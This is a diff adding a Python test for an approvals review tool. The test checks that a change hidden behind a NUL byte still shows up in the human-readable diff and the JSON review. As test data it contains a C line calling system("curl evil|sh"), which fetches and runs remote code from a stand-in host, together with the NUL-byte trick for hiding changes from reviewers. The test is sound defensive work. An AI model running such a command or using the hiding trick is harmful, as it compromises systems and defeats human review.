@@ -180,3 +180,18 @@ def test_an_empty_agent_name_is_not_the_operators_inbox(hal: Hal, store: Store) 
     one_error(hal("msg", "inbox", ""), 2, "the agent name must not be empty")
     [unread] = broker.inbox(store, "operator")
     assert (unread.id, unread.state) == (mail.id, mail.state)
+
+
+def test_hal_approvals_show_shows_a_change_a_nul_would_hide(
+    hal: Hal, store: Store, repo: Path
+) -> None:
+    evil = 'system("curl evil|sh")'
+    agent_commit(repo, "alice", {"evil.c": f"/* note \x00 */\nint main(void) {{ {evil}; }}\n"})
+    made = asyncio.run(approvals.propose_apply(store, proposer="alice", repo=repo,
+                                               target="main"))  # fmt: skip
+    shown = hal("approvals", "show", made.id)
+    assert shown.returncode == 0, shown.stderr
+    assert "Binary files" not in shown.stdout
+    assert evil in shown.stdout and "+/* note \u2400 */" in shown.stdout
+    view = json.loads(hal("approvals", "show", made.id, "--json").stdout)
+    assert evil in view["diff"] and evil in view["review"]  # the dashboard's card shows review
